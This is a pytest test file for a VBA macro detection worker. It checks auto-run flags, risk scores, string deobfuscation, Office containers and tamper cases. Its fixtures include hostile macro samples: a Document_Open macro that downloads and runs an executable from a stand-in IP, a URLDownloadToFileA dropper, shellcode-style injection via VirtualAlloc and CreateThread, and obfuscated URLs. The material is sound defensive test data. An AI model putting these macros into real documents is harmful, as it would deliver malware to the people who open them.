"""VBA macros: source, flags, keywords, hidden strings; in every container, and never in plain text."""

from __future__ import annotations

import base64
import struct
import subprocess
import sys
import time
import warnings
import zlib
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins._formats.office.vba import inflate
from plugins._formats.office.vba_strings import decoded
from plugins.workers.mraptor import Mraptor
from stoq_core.limits import RequestLimits
from stoq_core.testing import Ran, make, run
from tests import samples
from tests.office_files import compound, document, ooxml, vba_compressed, vba_project

HARMLESS = "Sub Tidy()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n"
RUNS = 'Sub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'
DOWNLOADS = (
    'Sub Document_Open()\r\n  Set x = CreateObject("MSXML2.XMLHTTP")\r\n  x.Open "GET", "http://198.51.100.7/a.exe"\r\n'
    '  CreateObject("WScript.Shell").Run "a.exe"\r\nEnd Sub\r\n'
)


def scan(content: bytes, **options: Any) -> Ran:
    """Run the worker."""
    return run(make(Mraptor, **options), content)


def result(content: bytes, **options: Any) -> dict[str, Any]:
    """Its result."""
    found = scan(content, **options).result
    assert found is not None
    return found


def test_source_is_a_child() -> None:
    """Each module's source, under its name, whole."""
    ran = scan(document({"ThisDocument": RUNS, "Modul1": HARMLESS * 300}))
    assert ran.contents["ThisDocument.bas"].decode() == f'Attribute VB_Name = "ThisDocument"\r\n{RUNS}'
    assert ran.contents["Modul1.bas"].decode().endswith(HARMLESS * 300)
    assert ran.children[0].meta.extra_data["path"] == "Macros/VBA/ThisDocument"


@pytest.mark.parametrize(
    ("source", "flags", "suspicious", "finding", "score"),
    [
        (HARMLESS, "---", False, None, 0),
        ("Sub AutoOpen()\r\nEnd Sub\r\n", "A--", False, None, 0),
        ("Sub Workbook_Open()\r\n  Call Tidy\r\nEnd Sub\r\n", "A-X", True, "macro_runs_by_itself", 100),
        ('Sub Workbook_Open()\r\n  ThisWorkbook.SaveAs "b.xls"\r\nEnd Sub\r\n', "AW-", True, "macro_runs_by_itself", 100),
        ('Sub x()\r\n  Shell "calc"\r\nEnd Sub\r\n', "--X", False, None, 0),
        (RUNS, "A-X", True, "macro_runs_program", 600),
        (DOWNLOADS, "A-X", True, "macro_downloads_and_runs", 1000),
        (DOWNLOADS.replace("Document_Open", "Fetch"), "--X", False, None, 0),
        ('Sub AutoOpen()\r\n URLDownloadToFileA 0, "http://x.example/", "a", 0, 0\r\nEnd Sub\r\n', "AW-", True, "macro_drops_file", 600),
        ("Sub AutoOpen()\r\n p = VirtualAlloc(0, 9, 4096, 64)\r\n CreateThread 0, 0, p, 0, 0, 0\r\nEnd Sub\r\n", "AWX", True, "macro_injects_code", 1000),
    ],
)  # fmt: skip
def test_flags_and_findings(
    source: str, flags: str, suspicious: bool, finding: str | None, score: int
) -> None:
    """1,000 only where it runs by itself, downloads and executes (or injects); ordinary macros stay under 300."""
    ran = scan(document({"M": source}))
    assert ran.result is not None
    assert (ran.result["flags"], ran.result["suspicious"]) == (flags, suspicious)
    assert [(one.name, one.score) for one in ran.findings] == ([(finding, score)] if finding else [])


def test_flags_of_all_modules_together() -> None:
    """A trigger in one module and a program in another are one macro."""
    found = result(
        document(
            {"A": "Sub AutoOpen()\r\n  Go\r\nEnd Sub\r\n", "B": 'Sub Go()\r\n  Shell "x"\r\nEnd Sub\r\n'}
        )
    )
    assert found["flags"] == "A-X"
    assert [one["flags"] for one in found["macros"]] == ["A--", "--X"]


def test_keywords_iocs_and_hidden_strings() -> None:
    """Words with their meaning, indicators, and what Chr, StrReverse, hexadecimal and base64 hide."""
    hidden = base64.b64encode(b"http://b64.example.com/").decode()
    source = (
        'Sub AutoOpen()\r\n  a = Chr(104) & "ttp" & ChrW(58) & "//chr.example" & "." & "com/"\r\n'
        '  b = StrReverse("moc.elpmaxe.ver//:ptth")\r\n  c = "687474703a2f2f6865782e6578616d706c652e636f6d2f"\r\n'
        f'  d = "{hidden}"\r\n  e = Chr(&H41 Xor 3) + Chr(60 + 6)\r\nEnd Sub\r\n'
    )
    found = result(document({"M": source}))
    meant = {one["meant"] for one in found["strings"]}
    assert {
        "http://chr.example.com/",
        "http://rev.example.com",
        "http://hex.example.com/",
        "http://b64.example.com/",
        "BB",
    } <= meant
    urls = {one["value"] for one in found["iocs"] if one["type"] == "urls"}
    assert {
        "http://chr.example.com/",
        "http://rev.example.com",
        "http://hex.example.com/",
        "http://b64.example.com/",
    } <= urls
    assert ("autoexec", "AutoOpen") in {(one["type"], one["keyword"]) for one in found["keywords"]}
    assert "StrReverse" in {one["keyword"] for one in found["keywords"]}
    assert "strings" not in {k for k, v in result(document({"M": source}), decode_strings=False).items() if v}


def test_words_in_hidden_strings_count() -> None:
    """A program that is named by Chr alone is found."""
    hidden = " & ".join(f"Chr({ord(one)})" for one in "WScript.Shell")
    ran = scan(document({"M": f"Sub AutoOpen()\r\n  Set s = CreateObject({hidden})\r\nEnd Sub\r\n"}))
    assert "macro_runs_program" in {one.name for one in ran.findings}


PROJECT = compound({name.removeprefix("Macros/"): data for name, data in vba_project({"M": RUNS}).items()})
ACTIVE_MIME = b"ActiveMime" + bytes(20) + (4).to_bytes(2, "little") + bytes(18) + zlib.compress(PROJECT)


@pytest.mark.parametrize(
    "content",
    [
        PROJECT, ooxml(word__document=b"<x/>", word__vbaProject_bin=PROJECT), ooxml(xl__other_bin=PROJECT), ACTIVE_MIME,
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + base64.encodebytes(ACTIVE_MIME),
        b'<?mso-application progid="Word.Document"?><w:binData w:name="editdata.mso">' + base64.b64encode(ACTIVE_MIME) + b"</w:binData>",
        b'<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:binaryData>' + base64.encodebytes(PROJECT),
    ],
    ids=["ole", "docm", "renamed", "activemime", "mhtml", "word2003", "flatopc"],
)  # fmt: skip
def test_every_container(content: bytes) -> None:
    """The same macro is found wherever Office keeps it."""
    ran = scan(content)
    assert ran.result is not None
    assert ran.result["flags"] == "A-X"
    assert not ran.reasons


def test_plain_text_is_never_vba() -> None:
    """Source outside a document, mail that quotes it, and other zips have no macros."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("a.bin", PROJECT)
    for content in (
        RUNS.encode(),
        b"From: a@b.c\r\n\r\n" + DOWNLOADS.encode(),
        out.getvalue(),
        b"",
        b"PK\x03\x04" + bytes(50),
    ):
        ran = scan(content)
        assert ran.result is None
        assert not ran.children
        assert not ran.findings


def test_source_that_no_project_lists() -> None:
    """A module whose directory is gone, and one in a stream that nothing names, are read all the same."""
    streams = vba_project({"A": HARMLESS, "B": RUNS})
    streams["Macros/VBA/dir"] = b"\x01garbage"
    found = result(compound(streams))
    assert {one["filename"] for one in found["macros"]} == {"A.bas", "B.bas"}
    assert all(one["lost"] for one in found["macros"])
    hidden = compound(
        {"x": b"y"}, orphan=("h", bytes(9) + vba_compressed(b'Attribute VB_Name = "h"\r\n' + RUNS.encode()))
    )
    assert result(hidden)["flags"] == "A-X"


def test_the_library_reads_the_same() -> None:
    """On every real document the modules and sources are those that olevba reads."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from oletools.olevba import FileOpenError, VBA_Parser

        seen = 0
        for file in samples.files("oletools"):
            content = file.read_bytes()
            if content[:4] not in (b"\xd0\xcf\x11\xe0", b"PK\x03\x04"):
                continue
            try:
                parser = VBA_Parser(file.name, data=content)
            except FileOpenError:  # a zip around a document
                assert scan(content).result is None
                continue
            theirs = sorted(
                code.replace("\r\n", "\n") for *_, code in parser.extract_macros() if isinstance(code, str)
            )
            parser.close()
            ours = sorted(one.body.content().decode().replace("\r\n", "\n") for one in scan(content).children)
            theirs = [one for one in theirs if not one.startswith("'") and one.strip()]
            seen += len(ours)
            assert ours == theirs, file
    assert seen >= 4


def test_real_macros() -> None:
    """Macros in a Word document with forms, and in a presentation."""
    folder = samples.folder("oletools")
    names = {
        one["filename"] for one in result((folder / "oleform" / "oleform-PR314.docm").read_bytes())["macros"]
    }
    assert "NewMacros.bas" in names
    assert result((folder / "olevba" / "sample_with_vba.ppt").read_bytes())["macros"]


def test_it_is_quiet() -> None:
    """Importing the library prints and warns nothing."""
    code = "from plugins._formats.office.macro_words import Words; Words.load()"
    done = subprocess.run(
        [sys.executable, "-W", "error", "-c", code], capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


def test_bombs() -> None:
    """Source that inflates two thousand times, endless lines and strings: seconds at most, and a reason."""
    token = bytes.fromhex("b0") and b"\x01" + b"".join(
        b"\x06\xb0" + b"\xfea" + b"\xff\x0f" + b"\x00" * 3 for _ in range(20_000)
    )
    made, whole = inflate(token, 10**6)
    assert len(made) <= 10**6
    assert not whole
    began = time.process_time()
    for source in (
        "Open " * 50_000, "a_" * 120_000, 'x = "' + "a" * 250_000, "Chr(" * 60_000, '"a" & ' * 50_000, "http://" * 30_000,
        "Open x _\r\n" * 25_000, "ab" * 120_000,
    ):  # fmt: skip
        scan(document({"M": f"Sub AutoOpen()\r\n{source}\r\n"}))
    assert time.process_time() - began < 20


def test_limits_are_said() -> None:
    """More source than is analysed, and more modules than children are allowed, are reasons."""
    ran = scan(document({"M": HARMLESS * 50}), max_source_chars=100)
    assert "option_limit" in ran.reasons
    few = run(make(Mraptor), document({f"M{n}": RUNS for n in range(9)}), limits=RequestLimits(payloads=3))
    assert len(few.children) == 3
    assert few.error is not None
    assert few.error.reason == "too_many_payloads"
    assert few.result is not None


@given(st.text(alphabet='chrCHR()&+"0123456789 xorabc\\n_', max_size=200))
def test_hidden_strings_of_any_text(text: str) -> None:
    """Arbitrary text decodes to something or nothing."""
    assert all(len(one) == 3 for one in decoded(text))


WHOLE = [document({"A": RUNS, "B": HARMLESS * 40}), ooxml(word__vbaProject_bin=PROJECT), ACTIVE_MIME]


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(WHOLE),
    st.lists(st.tuples(st.floats(0, 0.999), st.binary(min_size=1, max_size=8)), max_size=5),
    st.floats(0.05, 1),
)
def test_damaged_documents_end_in_emits_or_reasons(
    whole: bytes, damage: list[tuple[float, bytes]], keep: float
) -> None:
    """Bytes changed anywhere and a cut anywhere raise nothing else."""
    broken = bytearray(whole[: int(len(whole) * keep)])
    for where, what in damage:
        at = int(where * len(broken))
        broken[at : at + len(what)] = what
    scan(bytes(broken))


@given(
    st.sampled_from(
        [
            b"",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"PK\x03\x04",
            b"ActiveMime",
            b"QWN0aXZlTWltZQ",
            b"0M8R4KGxGuE",
        ]
    ),
    st.binary(max_size=600),
)
def test_any_bytes(magic: bytes, rest: bytes) -> None:
    """Arbitrary bytes behind any mark end in a result or nothing."""
    scan(magic + rest)


def test_a_module_without_its_source() -> None:
    """Compiled code whose source was taken away is named; a module that is only empty is not."""
    streams = vba_project({"Modul1": HARMLESS})
    path = next(path for path in streams if path.endswith("/Modul1"))
    assert not scan(compound(streams)).findings
    directory = next(path for path in streams if path.endswith("/dir"))
    raw, _ = inflate(streams[directory], 1 << 20)
    moved = raw.replace(struct.pack("<HII", 0x31, 4, 16), struct.pack("<HII", 0x31, 4, 600))
    assert moved != raw
    for stream in (b"\x01" * 600, b"\x01" * 600 + bytes(9)):
        stomped = compound({**streams, path: stream, directory: vba_compressed(moved)})
        assert [one.name for one in scan(stomped).findings] == ["vba_stomped"]
